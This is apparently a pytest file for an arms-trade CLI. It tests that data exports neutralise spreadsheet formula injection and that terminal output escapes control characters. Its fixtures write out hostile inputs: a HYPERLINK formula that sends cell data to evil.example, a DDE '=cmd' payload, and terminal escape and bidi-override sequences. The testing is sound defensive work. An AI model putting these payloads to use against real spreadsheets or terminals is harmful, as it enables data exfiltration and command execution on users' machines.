"""What the CLI writes is safe to open and to look at (issue 16, finding 6).

- CSV, TSV (CAMEO) and SIPRI-style exports neutralise cells a spreadsheet would run as a formula.
- Control and escape characters from stored fields never reach the terminal as they are.
"""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from armswatch.cli import main
from armswatch.model import Article, Event, EventType, Evidence, Modality
from armswatch.store import open_store

FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESC_ID = "doc\x1b]0;pwned\x07\x1b[2J\x9b31m\u202eevil\nsecond line\r"
SENTENCE = "+France agreed to sell 24 Rafale jets to Greece in 2021."


def _store(path: str, doc_id: str, title: str) -> None:
    text = f"{SENTENCE}\n@SUM(A1) and \x1b[31mred\x1b[0m text."
    with open_store(path) as store:
        store.add_article(Article(doc_id=doc_id, text=text, title=title, sources=[f"src-{doc_id}"]))
        event = Event(doc_id=doc_id, type=EventType.AGREEMENT, supplier="FRA", recipient="GRC",
                      weapon="-Rafale\x1b[1m", weapon_family="Rafale", category="combat aircraft", quantity=24,
                      year=2021, modality=Modality.ASSERTED, attribution="@minister",
                      evidence=Evidence(SENTENCE, 0, len(SENTENCE)))
        store.replace_events(doc_id, [event], extractor_version="1")
        try:
            from armswatch.link import link_store
        except ImportError:
            return
        link_store(store)


@pytest.fixture()
def db(tmp_path):
    path = str(tmp_path / "hostile.db")
    _store(path, FORMULA_ID, "=cmd|' /C calc'!A0")
    _store(path, ESC_ID, "Title \x1b[5mblink")
    return path


def _cells(text: str, delimiter: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    assert len(rows) > 1
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.parametrize("args, delimiter", [
    (["--format", "csv"], ","),
    (["--format", "csv", "--what", "deals"], ","),
    (["--format", "cameo"], "\t"),
    (["--format", "sipri"], ","),
])
def test_exports_neutralise_formula_cells(db, args, delimiter):
    result = CliRunner(mix_stderr=False).invoke(main, ["export", "--db", db, *args])
    assert result.exit_code == 0, result.stderr
    cells = _cells(result.stdout, delimiter)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if "sipri" not in args:
        assert any(c.startswith(("'=", "'+", "'-")) for c in cells)


def _assert_inert(out: str) -> None:
    for ch in ("\x1b", "\x07", "\x9b", "\r", "\u202e", "\x00"):
        assert ch not in out, repr(ch)


def test_show_escapes_control_characters(db):
    result = CliRunner(mix_stderr=False).invoke(main, ["show", ESC_ID, "--db", db])
    assert result.exit_code == 0, result.stderr
    _assert_inert(result.stdout)
    assert "doc\\x1b]0;pwned\\x07" in result.stdout and "\\u202eevil\\x0asecond line\\x0d" in result.stdout
    assert "\\x1b[31mred" in result.stdout  # in the article text too


@pytest.mark.parametrize("command", [["events"], ["deals"], ["dyad", "FRA", "GRC"]])
def test_tables_escape_control_characters(db, command):
    result = CliRunner(mix_stderr=False).invoke(main, [*command, "--db", db])
    assert result.exit_code == 0, result.stderr
    _assert_inert(result.stdout)


def test_run_escapes_document_ids_and_skip_lines(tmp_path):
    corpus = tmp_path / "c.jsonl"
    corpus.write_text(
        '{"id": "a\\u001b[2Jb", "text": "France agreed to sell 24 Rafale jets to Greece in 2021."}\n'
        '{"id": "c\\u001b]0;x\\u0007", "text": ""}\n', encoding="utf-8")
    result = CliRunner(mix_stderr=False).invoke(main, ["run", str(corpus), "--db", str(tmp_path / "r.db")])
    assert result.exit_code == 0, result.stderr
    _assert_inert(result.stdout)
    _assert_inert(result.stderr)
    assert "a\\x1b[2Jb" in result.stdout
